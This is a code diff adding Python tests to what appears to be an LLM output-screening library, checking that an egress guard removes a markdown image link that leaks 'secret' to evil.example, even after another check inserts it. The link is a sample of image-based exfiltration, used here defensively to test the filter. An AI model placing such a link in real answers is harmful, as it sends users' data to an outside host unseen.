@@ -9,13 +9,15 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from ragstone.errors import CheckFailed
+from ragstone.protocols import Check
 from ragstone.types import Context
 from ragstone.validation.checks.length import LengthCheck
 from ragstone.validation.checks.regex import RegexCheck
 from ragstone.validation.checks.words import WordsCheck
+from ragstone.validation.egress.check import EgressCheck
 from ragstone.validation.policy import Guard, Policy
 from ragstone.validation.screening import Screened, Screening
-from ragstone.verdicts import Subject
+from ragstone.verdicts import PASSED, Finding, Subject
 
 PIECES = [
     *("The ", "harbour ", "opens", " at 6.30", " a.m.", ". ", "! ", "?", "\n", "\n\n", "\n- ", "```\n", "```py\n", "`"),
@@ -100,3 +102,40 @@ async def test_a_refusal_lets_nothing_slip_out(text: str) -> None:
     found = await screening.finish()
     assert found.refrained is not found.verdicts[0].passed
     assert found.refrained or found.rest == text
+
+
+LEAK = "![x](https://evil.example/?q=secret)"
+
+
+class Adding(Check):
+    """A check of the whole answer that mends it by a picture."""
+
+    whole = fixes = True
+
+    async def check(self, subject: Subject, *, context: Context) -> Finding:
+        if subject.text.endswith(LEAK):
+            return PASSED
+        return Finding(passed=False, reason="it has no picture", fixed=f"{subject.text} {LEAK}")
+
+
+async def test_what_another_check_has_made_of_an_answer_passes_the_last_one() -> None:
+    guards = [
+        Guard(name="egress", check=EgressCheck(), policy=Policy(on_fail="fix")),
+        Guard(name="adding", check=Adding(), policy=Policy(on_fail="fix")),
+    ]
+    found, said = await screened(guards, "It opens at six.", None)
+    assert isinstance(found, Screened)
+    assert found.text == said != "It opens at six."
+    assert "](https://evil.example" not in said
+    assert [(one.check, one.passed, one.action) for one in found.verdicts] == [
+        ("egress", False, "fixed"),
+        ("adding", False, "fixed"),
+    ]
+
+
+async def test_nothing_is_left_of_what_was_refused() -> None:
+    found, _ = await screened(
+        [Guard(name="g", check=LengthCheck(most=3), policy=Policy(on_fail="refrain"))], "It opens at six.", None
+    )
+    assert isinstance(found, Screened)
+    assert (found.refrained, found.text, found.rest) == (True, "", "")
